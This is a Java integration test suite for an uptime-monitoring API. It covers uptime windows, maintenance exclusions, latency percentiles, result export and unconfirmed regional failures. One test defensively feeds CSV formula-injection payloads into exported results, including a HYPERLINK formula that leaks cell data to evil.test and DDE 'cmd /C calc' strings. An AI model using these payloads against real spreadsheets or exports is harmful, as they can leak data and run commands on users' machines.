package dev.vigil.api.uptime;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import dev.vigil.api.support.ApiClient;
import dev.vigil.api.support.ApiServiceTest;
import dev.vigil.common.testing.TestDatabase;
import java.sql.Timestamp;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

@ApiServiceTest
class UptimeApiIT {

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    private UUID monitorCreatedDaysAgo(ApiClient api, int days) {
        UUID id = UUID.fromString(api.post("/api/v1/monitors", Map.of("name", "Shop", "type", "HTTP",
                "url", "https://example.com", "regions", List.of("local-a", "local-b"))).json().get("id").asString());
        jdbc.sql("UPDATE monitors SET created_at = now() - make_interval(days => ?) WHERE id = ?").params(days, id)
                .update();
        return id;
    }

    private void transition(UUID monitor, String from, String to, Instant at) {
        jdbc.sql("""
                        INSERT INTO monitor_transitions (monitor_id, workspace_id, from_status, to_status, at, reason)
                        SELECT id, workspace_id, ?, ?, ?, 'test' FROM monitors WHERE id = ?""")
                .params(from, to, Timestamp.from(at), monitor).update();
    }

    private void result(UUID monitor, Instant time, String region, boolean ok, long latency) {
        result(monitor, time, region, ok, latency, "HTTP status 503");
    }

    private void result(UUID monitor, Instant time, String region, boolean ok, long latency, String message) {
        UUID round = UUID.nameUUIDFromBytes((monitor + "|" + time).getBytes());
        jdbc.sql("""
                        INSERT INTO check_results (time, job_id, round_id, monitor_id, workspace_id, region, kind,
                                                   started_at, ok, latency_ms, error, message)
                        SELECT ?, ?, ?, id, workspace_id, ?, 'SCHEDULED', ?, ?, ?, ?, ? FROM monitors WHERE id = ?""")
                .params(Timestamp.from(time), UUID.randomUUID(), round, region, Timestamp.from(time), ok, latency,
                        ok ? null : "HTTP_STATUS", ok ? null : message, monitor)
                .update();
    }

    @Test
    void uptimeCountsDowntimeIntervalsWithinTheWindow() {
        ApiClient api = new ApiClient(port).signUp();
        UUID monitor = monitorCreatedDaysAgo(api, 100);
        Instant now = Instant.now();
        transition(monitor, "PENDING", "UP", now.minus(Duration.ofDays(20)));
        transition(monitor, "UP", "DOWN", now.minus(Duration.ofHours(3)));
        transition(monitor, "DOWN", "UP", now.minus(Duration.ofHours(2)));
        transition(monitor, "UP", "DOWN", now.minus(Duration.ofDays(3)));
        transition(monitor, "DOWN", "UP", now.minus(Duration.ofDays(3)).plus(Duration.ofMinutes(30)));

        JsonNode day = api.get("/api/v1/monitors/" + monitor + "/uptime?window=24h").json();
        JsonNode week = api.get("/api/v1/monitors/" + monitor + "/uptime?window=7d").json();

        assertThat(day.get("window").asString()).isEqualTo("24h");
        assertThat(day.get("downtimeSeconds").asLong()).isBetween(3595L, 3605L);
        assertThat(day.get("uptimePercent").asDouble()).isCloseTo(100.0 * (1 - 3600.0 / 86400), within(0.01));
        assertThat(week.get("downtimeSeconds").asLong()).isBetween(5395L, 5405L);
        assertThat(api.get("/api/v1/monitors/" + monitor + "/uptime?window=1y").status()).isEqualTo(400);
    }

    @Test
    void maintenanceCountsNeitherAsDowntimeNorAsMonitoredTime() {
        ApiClient api = new ApiClient(port).signUp();
        UUID monitor = monitorCreatedDaysAgo(api, 10);
        Instant now = Instant.now();
        transition(monitor, "PENDING", "UP", now.minus(Duration.ofDays(5)));
        transition(monitor, "UP", "DOWN", now.minus(Duration.ofHours(4)));
        transition(monitor, "DOWN", "UP", now.minus(Duration.ofHours(2)));
        UUID window = UUID.randomUUID();
        jdbc.sql("""
                        INSERT INTO maintenance_windows (id, workspace_id, title, starts_at, ends_at)
                        SELECT ?, workspace_id, 'Database upgrade', ?, ? FROM monitors WHERE id = ?""")
                .params(window, Timestamp.from(now.minus(Duration.ofHours(5))),
                        Timestamp.from(now.minus(Duration.ofHours(3))), monitor).update();
        jdbc.sql("INSERT INTO maintenance_window_monitors (window_id, monitor_id) VALUES (?, ?)").params(window, monitor)
                .update();

        JsonNode day = api.get("/api/v1/monitors/" + monitor + "/uptime?window=24h").json();

        assertThat(day.get("downtimeSeconds").asLong()).isBetween(3595L, 3605L);
        assertThat(day.get("uptimePercent").asDouble()).isCloseTo(100.0 * (1 - 3600.0 / (86400 - 7200)),
                within(0.01));
    }

    @Test
    void latencyPercentilesComeFromRawResultsOrTheHourlyRollup() {
        ApiClient api = new ApiClient(port).signUp();
        UUID monitor = monitorCreatedDaysAgo(api, 10);
        Instant start = Instant.now().truncatedTo(ChronoUnit.HOURS).minus(Duration.ofHours(5));
        transition(monitor, "PENDING", "UP", start);
        for (int i = 0; i < 100; i++) {
            result(monitor, start.plus(Duration.ofMinutes(i)), "local-a", true, 100 + i);
        }
        result(monitor, start.plus(Duration.ofMinutes(100)), "local-a", false, 10_000);
        if (TestDatabase.shared().hasTimescale()) {
            jdbc.sql("CALL refresh_continuous_aggregate('check_results_hourly', ?, ?)")
                    .params(Timestamp.from(start), Timestamp.from(start.plus(Duration.ofHours(3)))).update();
        } else {
            jdbc.sql("SELECT vigil_rollup_check_results('hour', ?, ?)")
                    .params(Timestamp.from(start), Timestamp.from(start.plus(Duration.ofHours(3))))
                    .query(Integer.class).single();
        }

        JsonNode day = api.get("/api/v1/monitors/" + monitor + "/uptime?window=24h").json();
        JsonNode week = api.get("/api/v1/monitors/" + monitor + "/uptime?window=7d").json();

        assertThat(day.get("p50Ms").asDouble()).isCloseTo(149.5, within(0.1));
        assertThat(day.get("p99Ms").asDouble()).isLessThan(200);
        assertThat(week.get("p50Ms").asDouble()).isBetween(120.0, 180.0);
        assertThat(week.get("uptimePercent").asDouble()).isEqualTo(100.0);
    }

    @Test
    void resultsAreExportedAsCsvAndJson() {
        ApiClient api = new ApiClient(port).signUp();
        UUID monitor = monitorCreatedDaysAgo(api, 2);
        Instant start = Instant.now().minus(Duration.ofHours(1)).truncatedTo(ChronoUnit.SECONDS);
        for (int i = 0; i < 30; i++) {
            result(monitor, start.plusSeconds(60L * i), i % 2 == 0 ? "local-a" : "local-b", i != 7, 50 + i);
        }
        String range = "from=" + start.minusSeconds(1) + "&to=" + Instant.now().plusSeconds(1);

        ApiClient.Response csv = api.get("/api/v1/monitors/" + monitor + "/export?format=csv&" + range);
        ApiClient.Response json = api.get("/api/v1/monitors/" + monitor + "/export?format=json&" + range);

        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.contentType()).startsWith("text/csv");
        List<String> lines = csv.body().lines().toList();
        assertThat(lines).hasSize(31);
        assertThat(lines.getFirst()).startsWith("jobId,time,region,kind,ok");
        assertThat(lines.get(8)).contains(",false,").contains("HTTP status 503");
        assertThat(json.status()).isEqualTo(200);
        assertThat(json.json().get("items").size()).isEqualTo(30);
        assertThat(json.json().get("items").get(0).get("latencyMs").asLong()).isEqualTo(50);
        assertThat(api.get("/api/v1/monitors/" + monitor + "/export?format=xml").status()).isEqualTo(400);
        assertThat(new ApiClient(port).signUp().get("/api/v1/monitors/" + monitor + "/export").status())
                .isEqualTo(404);
    }

    @Test
    void formulasInResultTextAreDefusedInTheCsvExport() {
        ApiClient api = new ApiClient(port).signUp();
        UUID monitor = monitorCreatedDaysAgo(api, 2);
        Instant start = Instant.now().minus(Duration.ofMinutes(30)).truncatedTo(ChronoUnit.SECONDS);
        // Text a hostile target can put in a check's error message (an assertion quoting its body, say).
        List<String> payloads = List.of("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
                "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
        for (int i = 0; i < payloads.size(); i++) {
            result(monitor, start.plusSeconds(60L * i), "local-a", false, 10, payloads.get(i));
        }
        String range = "from=" + start.minusSeconds(1) + "&to=" + Instant.now().plusSeconds(1);

        ApiClient.Response csv = api.get("/api/v1/monitors/" + monitor + "/export?format=csv&" + range);

        assertThat(csv.status()).isEqualTo(200);
        List<String> cells = new java.util.ArrayList<>();
        for (String payload : payloads) {
            String expected = CsvCell.of(payload);
            assertThat(csv.body()).contains("," + expected + ",");
            assertThat(expected.replace("\"", "")).startsWith("'");
            cells.add(expected);
            System.out.printf("attack: CSV formula %s in a result's message -> refused, exported as text %s%n",
                    payload.replace("\t", "\\t").replace("\r", "\\r"),
                    expected.replace("\t", "\\t").replace("\r", "\\r"));
        }
        assertThat(cells).hasSize(payloads.size());
    }

    @Test
    void aFailureOtherRegionsDidNotConfirmIsShownAsSuch() {
        ApiClient api = new ApiClient(port).signUp();
        UUID monitor = monitorCreatedDaysAgo(api, 1);
        Instant time = Instant.now().minus(Duration.ofMinutes(5)).truncatedTo(ChronoUnit.SECONDS);
        result(monitor, time, "local-a", true, 40);
        result(monitor, time, "local-b", false, 5000);
        UUID round = UUID.nameUUIDFromBytes((monitor + "|" + time).getBytes());
        jdbc.sql("""
                        INSERT INTO check_rounds (round_id, monitor_id, time, verdict, failed_regions, ok_regions,
                                                  cause, decided_at)
                        VALUES (?, ?, ?, 'NOT_CONFIRMED', '{local-b}', '{local-a}', 'HTTP status 503', now())""")
                .params(round, monitor, Timestamp.from(time)).update();

        JsonNode items = api.get("/api/v1/monitors/" + monitor + "/results").json().get("items");

        JsonNode failed = items.valueStream().filter(i -> !i.get("ok").asBoolean()).findFirst().orElseThrow();
        assertThat(failed.get("roundStatus").asString()).isEqualTo("NOT_CONFIRMED");
        assertThat(failed.get("note").asString()).isEqualTo("failed in local-b, not confirmed");
        JsonNode passed = items.valueStream().filter(i -> i.get("ok").asBoolean()).findFirst().orElseThrow();
        assertThat(passed.get("roundStatus").isNull()).isTrue();
    }
}
